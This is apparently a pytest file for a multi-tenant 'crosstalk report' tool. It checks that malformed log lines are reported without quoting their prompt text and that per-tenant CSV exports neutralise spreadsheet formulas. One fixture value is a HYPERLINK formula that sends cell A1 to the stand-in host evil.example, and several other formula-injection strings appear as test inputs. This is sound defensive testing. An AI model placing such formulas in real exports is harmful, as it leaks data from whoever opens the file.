"""Hostile values through the real `crosstalk report`: names the schema allows, lines it does not, and the
per-tenant files a spreadsheet opens. Nothing crashes the run, overwrites another tenant's notice, quotes a
bad line's text, or runs as a formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import orjson
import pytest
from selenium.webdriver.common.by import By

from .report_fixtures import crosstalk
from .test_report_model import T0, alert

# slow: crosstalk report as a subprocess, and a real headless Chromium
pytestmark = pytest.mark.slow

MATH_DOMAIN = r"pool-$\undefinedmacro$"
PREFIX = "t" * 120
LONG_A, LONG_B = PREFIX + "-bank-a", PREFIX + "-bank-b"
FORMULA_RID = '=HYPERLINK("http://evil.example/?"&A1,"open")'
# What bad lines carry in their values: prompt text the report must not quote.
PROMPT = "the merger closes on friday at 41 dollars a share"


def _request(rid: str, tenant: str, domain: str, ts: float, tokens: int = 700_000) -> dict[str, Any]:
    return {
        "type": "request",
        "ts": ts,
        "request_id": rid,
        "tenant_id": tenant,
        "prompt_tokens": tokens,
        "cache_domain": domain,
    }


def _response(rid: str, tenant: str, domain: str, ts: float) -> dict[str, Any]:
    return {
        "type": "response",
        "ts": ts,
        "request_id": rid,
        "tenant_id": tenant,
        "cache_domain": domain,
        "status_code": 200,
    }


def _inputs(tmp_path: Path) -> tuple[Path, Path]:
    events: list[bytes] = [
        orjson.dumps(
            {
                "type": "cache_stats",
                "ts": T0,
                "cache_domain": MATH_DOMAIN,
                "role": "prefill",
                "capacity_tokens": 681_280,
                "used_tokens": 1000,
            }
        )
    ]
    for i, (rid, tenant) in enumerate([("r-a", LONG_A), ("r-b", LONG_B), (FORMULA_RID, "tenant-f")]):
        events.append(orjson.dumps(_request(rid, tenant, MATH_DOMAIN, T0 + 1 + i)))
        events.append(orjson.dumps(_response(rid, tenant, MATH_DOMAIN, T0 + 2 + i)))
    # Bad lines, each with the prompt text in a different field.
    events += [
        orjson.dumps({**_request("bad-1", "tenant-f", MATH_DOMAIN, T0 + 9), "prompt_tokens": PROMPT}),
        orjson.dumps({**_request("bad-2", "tenant-f", MATH_DOMAIN, T0 + 9), "ts": PROMPT}),
        orjson.dumps({**_request("bad-3", "tenant-f", MATH_DOMAIN, T0 + 9), "type": PROMPT}),
        orjson.dumps({**_response("bad-4", "tenant-f", MATH_DOMAIN, T0 + 9), "status_code": PROMPT}),
        b'{"type": "request", "prompt_text": "' + PROMPT.encode() + b'", oops}',
    ]
    ev_path = tmp_path / "events.jsonl"
    ev_path.write_bytes(b"\n".join(events) + b"\n")
    alerts = [
        alert("r-a", LONG_A, LONG_B, cache_domain=MATH_DOMAIN, alert_id="a1"),
        alert("r-b", LONG_B, LONG_A, cache_domain=MATH_DOMAIN, alert_id="a2", ts=T0 + 11),
        alert(FORMULA_RID, "tenant-f", "@SUM(1+1)", cache_domain=MATH_DOMAIN, alert_id="a3", ts=T0 + 12),
    ]
    bad_alert = {**orjson.loads(alerts[0].model_dump_json()), "severity": PROMPT, "alert_id": "a9"}
    al_path = tmp_path / "alerts.jsonl"
    al_path.write_bytes(b"\n".join([*(a.model_dump_json().encode() for a in alerts), orjson.dumps(bad_alert)]) + b"\n")
    return ev_path, al_path


@pytest.fixture
def hostile_report(tmp_path: Path) -> tuple[Path, Path]:
    events, alerts = _inputs(tmp_path)
    out, per_tenant = tmp_path / "report.html", tmp_path / "notices"
    env = {"CROSSTALK_REPORT__DISCLOSE_COUNTERPARTY": "true", "CROSSTALK_REPORT__PSEUDONYM_KEY": "k"}
    crosstalk(
        "report",
        "--alerts",
        str(alerts),
        "--events",
        str(events),
        "--out",
        str(out),
        "--per-tenant",
        str(per_tenant),
        "--no-progress",
        env=env,
    )
    return out, per_tenant


def test_hostile_names_and_lines_through_the_report(hostile_report: tuple[Path, Path], browser: Any) -> None:
    out, _ = hostile_report
    html = out.read_text(encoding="utf-8")
    # The bad lines are counted and placed (file, line, field, reason) without a word of their values.
    assert "6 input lines could not be read" in html
    assert PROMPT not in html and "merger" not in html
    for field in ("prompt_tokens", "ts", "type", "status_code", "severity"):
        assert f"field {field}: " in html

    browser.get(out.resolve().as_uri())
    # The `$` domain is drawn as text, not mathtext: its figure exists and says the name as it is.
    figure = browser.find_element(By.CSS_SELECTOR, "#timeline figure")
    assert figure.get_attribute("data-domain") == MATH_DOMAIN
    title = [t.text for t in figure.find_elements(By.CSS_SELECTOR, "svg text")]
    assert MATH_DOMAIN in title
    inputs = browser.find_element(By.TAG_NAME, "body").text
    assert "field prompt_tokens: not an integer" in inputs and PROMPT not in inputs
    assert [e for e in browser.get_log("browser") if e["level"] == "SEVERE"] == []


def test_per_tenant_files_are_distinct_and_formula_free(hostile_report: tuple[Path, Path]) -> None:
    _, per_tenant = hostile_report
    notices = {orjson.loads(p.read_bytes())["tenant_id"]: p for p in per_tenant.glob("*.json")}
    # Two ids with one 120-character prefix: two files, each with its own tenant's finding.
    assert {LONG_A, LONG_B} <= set(notices) and notices[LONG_A] != notices[LONG_B]
    for tenant, rid in ((LONG_A, "r-a"), (LONG_B, "r-b")):
        notice = orjson.loads(notices[tenant].read_bytes())
        assert [r["your_request_id"] for r in notice["received"]] == [rid]
        assert len(notices[tenant].name) < 200  # still a valid file name
    # The CSV neutralises formulas; the JSON keeps the value as it is.
    f_notice = orjson.loads(notices["tenant-f"].read_bytes())
    assert f_notice["received"][0]["your_request_id"] == FORMULA_RID
    rows = list(csv.DictReader(io.StringIO(notices["tenant-f"].with_suffix(".csv").read_text())))
    cells = [v for row in rows for v in row.values()]
    assert f"'{FORMULA_RID}" in cells and "'@SUM(1+1)" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("  =1", "'  =1"),
        ("\uff1dcmd", "'\uff1dcmd"),
        ("tenant-a", "tenant-a"),
        ("2026-01-01", "2026-01-01"),
    ],
)
def test_csv_cell(value: str, shown: str) -> None:
    from streams.report.tenants import _cell

    assert _cell(value) == shown
